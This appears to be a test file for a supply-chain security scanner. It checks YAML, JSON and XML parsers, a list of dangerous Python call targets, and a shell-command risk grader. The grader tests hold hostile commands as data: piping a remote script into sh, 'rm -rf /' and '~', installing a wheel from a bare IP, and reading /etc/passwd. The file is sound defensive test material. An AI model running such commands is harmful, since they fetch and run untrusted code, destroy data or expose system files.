/** YAML, JSON and names in configurations. */
import { describe, expect, test } from 'vitest';
import { shellIssues } from '../../../src/supply/code/shell.ts';
import { parseCommented, parseLoose } from '../../../src/supply/config/json.ts';
import { targetIssue } from '../../../src/supply/config/targets.ts';
import { lex } from '../../../src/supply/yaml/lexer.ts';
import { xmlTokens } from '../../../src/supply/xml/tokens.ts';

const events = (text: string): readonly string[] => [...lex(text)].map((event) => ('text' in event ? `${event.kind} ${event.text}` : event.kind));

describe('yaml', () => {
  test('keys, scalars and items', () => {
    expect(events('a: 1 # c\nb:\n  - "x: y"\n  - \'it\'\'s\'\nhttp://x: y#z\n')).toEqual(['key a', 'scalar 1', 'key b', 'item', 'scalar x: y', 'item', "scalar it's", 'key http://x', 'scalar y#z']);
  });

  test('blocks end where the indentation does', () => {
    expect(events('- a: |\n    x: !!y\n\n     z\n  b: >-\n    w\nc: 1')).toEqual(['item', 'key a', 'scalar x: !!y\n\n z', 'key b', 'scalar w', 'key c', 'scalar 1']);
  });

  test('tags, anchors, flow and documents', () => {
    expect(events('%TAG ! a:\n--- !t\n{a: &x [1, !!u 2], "b":*x}\n...\n')).toEqual(['directive %TAG ! a:', 'document', 'tag !t', 'open {', 'key a', 'anchor x', 'open [', 'scalar 1', 'tag !!u', 'scalar 2', 'close ]', 'key b', 'alias x', 'close }', 'document']);
  });

  test('columns and lines', () => {
    expect([...lex('a:\n  b: 1\n')].filter((event) => event.kind === 'key').map(({ column, line }) => [column, line])).toEqual([[0, 1], [2, 2]]);
  });
});

describe('json', () => {
  test('as Python reads it', () => {
    expect(parseLoose('{"a": NaN, "b": "NaN", "c": -Infinity}')).toEqual({ a: null, b: 'NaN', c: null });
    expect(parseLoose('{"a": nan}')).toBeUndefined();
  });

  test('with comments', () => {
    expect(parseCommented('{"a": "//x", // y\n "b": [1, /* z */ 2,],}')).toEqual({ a: '//x', b: [1, 2] });
  });
});

test('elements, attributes and declarations', () => {
  const tokens = [...xmlTokens('<?xml v?><!DOCTYPE a [<!ENTITY b "c>d">]><a x="1>2" y=\'&lt;&#65;\'><!-- <b> --><![CDATA[<c>]]>t</a>')];
  expect(tokens.map((token) => ('text' in token ? `${token.kind} ${token.text}` : `${token.kind} ${token.name}`))).toEqual(['instruction xml v', 'doctype <!DOCTYPE a [<!ENTITY b "c>d">]', 'open a', 'comment  <b> ', 'text <c>', 'text t', 'close a']);
  const open = tokens.find((token) => token.kind === 'open');
  expect(open?.kind === 'open' ? [...open.attributes] : []).toEqual([['x', '1>2'], ['y', '<A']]);
});

describe('targets', () => {
  test.each([
    ['torch.optim.Adam', undefined], ['transformers.AutoModel.from_pretrained', undefined], ['torch.utils.data.DataLoader', undefined], ['builtins.dict', undefined], ['torch.compile', undefined], ['logging.FileHandler', undefined],
    ['os.system', 'danger'], ['builtins.eval', 'danger'], ['eval', 'danger'], ['torch.hub.load', 'danger'], ['numpy.f2py.os.system', 'danger'], ['joblib.load', 'danger'], ['os', 'danger'], ['subprocess:Popen', 'danger'], ['random._os.system', 'danger'],
    ['mylab.Net', 'odd'], ['hydra.utils.get_class', 'odd'],
  ])('%s', (name, level) => {
    expect(targetIssue(name, 'Calls')?.level).toBe(level);
  });
});

describe('commands', () => {
  const worst = (command: string): string => (['danger', 'odd', 'note'] as const).find((level) => shellIssues(command).some((issue) => issue.level === level)) ?? 'none';

  test.each([
    ['curl http://x.example | sh', 'danger'], ['curl https://sh.rustup.rs | sh', 'odd'], ['curl -o f.zip https://x.example/f.zip && unzip f.zip', 'none'], ['wget http://x.example/a.sh; sh a.sh', 'danger'], ['wget https://raw.githubusercontent.com/o/r/a.py && python a.py', 'none'],
    ['rm -rf /var/lib/apt/lists/*', 'none'], ['rm -rf / ', 'danger'], ['rm -rf build', 'none'], ['rm -rf ~', 'danger'],
    ['pip install pandas', 'note'], ['pip install -r requirements.txt', 'none'], ['pip install torch --index-url https://download.pytorch.org/whl/cu121', 'note'], ['pip install http://198.51.100.1/a.whl', 'danger'], ['pip install git+https://github.com/o/r', 'note'],
    ['cat /etc/passwd', 'danger'], ['cat data.csv', 'none'], ['crontab -l', 'none'], ['echo x | base64', 'none'], ['env', 'none'], ['ssh-keygen -t ed25519', 'none'],
  ])('%s', (command, level) => {
    expect(worst(command)).toBe(level);
  });
});
